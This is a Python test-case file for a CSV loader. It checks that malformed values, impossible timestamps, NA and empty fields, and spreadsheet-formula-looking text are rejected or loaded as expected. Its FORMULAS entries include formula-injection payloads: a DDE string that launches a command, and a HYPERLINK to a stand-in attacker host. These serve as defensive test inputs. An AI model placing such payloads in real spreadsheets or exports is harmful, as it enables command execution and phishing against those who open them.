"""Corpus cases about values: one wrong value per typed column, impossible timestamps,
``NA`` and empty fields, and spreadsheet-formula-looking text."""

from __future__ import annotations

from datetime import UTC, datetime

from tests.corpus.expect import Case, Loaded, dead
from tests.corpus.rows import kiva_file, kiva_row, server_file, server_row, server_rows

# One value per typed (or constrained) kiva_loans column that its contract must refuse.
KIVA_BAD_VALUES: dict[str, str] = {
    "loan_id": "12a",
    "funded_amount": "abc",
    "loan_amount": "1,000",
    "currency_exchange_coverage_rate": "inf",
    "partner_id": "231.5",
    "posted_time": "2014-01-15",
    "planned_expiration_time": "yesterday",
    "disburse_time": "2014-01-10T08:00:00Z",
    "raised_time": "2014-01-20 19:47:15.000",
    "lender_term": "6 months",
    "num_lenders_total": "1e3",
    "num_journal_entries": "-",
    "num_bulk_entries": " 4",
    "status": "pending",
    "sector_name": "",
}
SERVER_BAD_VALUES: dict[str, str] = {
    "timestamp": "2026-11-08 01:08:53",
    "status": "OK",
    "bytes_sent": "12.5",
    "latency_ms": "nan",
    "method": "FETCH",
}
IMPOSSIBLE_TIMES = {
    "feb_30": "2014-02-30 10:00:00.000 +0000",
    "month_13": "2014-13-01 10:00:00.000 +0000",
    "hour_25": "2014-01-15 25:00:00.000 +0000",
    "year_0": "0000-01-15 04:48:22.000 +0000",
    "offset_out_of_range": "2014-01-15 04:48:22.000 +2500",
}
FORMULAS = {
    "loan_name": "=cmd|' /C calc'!A0",
    "loan_use": "+1+1",
    "town_name": "@SUM(1)",
    "activity_name": "-2+3",
    "description": '=HYPERLINK("http://evil.example/?x=1","click")',
}


def _one_bad_kiva(column: str, value: str) -> Case:
    """Four loans, the second (line 3) with ``value`` in ``column``."""
    lines = [kiva_row(1), kiva_row(2, **{column: value}), kiva_row(3), kiva_row(4)]
    return Case(
        f"kiva_bad_{column}",
        kiva_file(lines),
        Loaded(rows=3, dead=dead((3, f"column '{column}'")), values=((4, "loan_id", 3),)),
    )


def _one_bad_server(column: str, value: str) -> Case:
    """Four requests, the third (line 4) with ``value`` in ``column``."""
    lines = [server_row(1), server_row(2), server_row(3, **{column: value}), server_row(4)]
    return Case(
        f"server_bad_{column}",
        server_file(lines),
        Loaded(rows=3, dead=dead((4, f"column '{column}'"))),
        dataset="server_logs",
    )


def _impossible_kiva_time(label: str, value: str) -> Case:
    """A leap day and an offset that load, then one impossible posted_time (line 4)."""
    lines = [
        kiva_row(1, posted_time="2016-02-29 10:00:00.000 +0000"),
        kiva_row(2, posted_time="2014-01-15 04:48:22.000 +0530"),
        kiva_row(3, posted_time=value),
        kiva_row(4),
    ]
    return Case(
        f"kiva_posted_time_{label}",
        kiva_file(lines),
        Loaded(
            rows=3,
            dead=dead((4, "column 'posted_time'")),
            values=(
                (2, "posted_time", datetime(2016, 2, 29, 10, tzinfo=UTC)),
                (3, "posted_time", datetime(2014, 1, 14, 23, 18, 22, tzinfo=UTC)),
            ),
        ),
    )


SERVER_IMPOSSIBLE_TIMES = [
    "2026-02-30T10:00:00.000Z",
    "2026-13-01T10:00:00.000Z",
    "2026-11-08T25:00:00.000Z",
    "0000-11-08T01:00:00.000Z",
    "2026-11-08T01:08:53.937",  # iso8601 in the contract requires an offset
]

CASES: list[Case] = [
    *(_one_bad_kiva(column, value) for column, value in KIVA_BAD_VALUES.items()),
    *(_one_bad_server(column, value) for column, value in SERVER_BAD_VALUES.items()),
    *(_impossible_kiva_time(label, value) for label, value in IMPOSSIBLE_TIMES.items()),
    Case(
        "server_impossible_timestamps",
        server_file(
            server_rows(1, 6) + [server_row(9, timestamp=t) for t in SERVER_IMPOSSIBLE_TIMES]
        ),
        Loaded(
            rows=6,
            dead=dead(*((line, "column 'timestamp'") for line in range(8, 13))),
            values=((2, "timestamp", datetime(2026, 11, 8, 0, 8, 53, 937000, tzinfo=UTC)),),
        ),
        dataset="server_logs",
    ),
    Case(
        "na_in_string_columns_is_text",
        kiva_file([kiva_row(1, country_code="NA", country_name="Namibia", loan_name="null")]),
        Loaded(rows=1, values=((2, "country_code", "NA"), (2, "loan_name", "null"))),
    ),
    Case(
        "na_in_numeric_column_is_dead",
        kiva_file([kiva_row(1), kiva_row(2, loan_amount="NA"), kiva_row(3)]),
        Loaded(rows=2, dead=dead((3, "column 'loan_amount'"))),
    ),
    Case(
        "empty_fields_are_null",
        kiva_file([kiva_row(1, partner_id="", raised_time="", tags=""), kiva_row(2)]),
        Loaded(rows=2, values=((2, "partner_id", None), (2, "raised_time", None))),
    ),
    Case(
        "formula_like_cells_load_verbatim",
        kiva_file([kiva_row(1, **FORMULAS), kiva_row(2)]),
        Loaded(rows=2, values=tuple((2, column, text) for column, text in FORMULAS.items())),
    ),
]
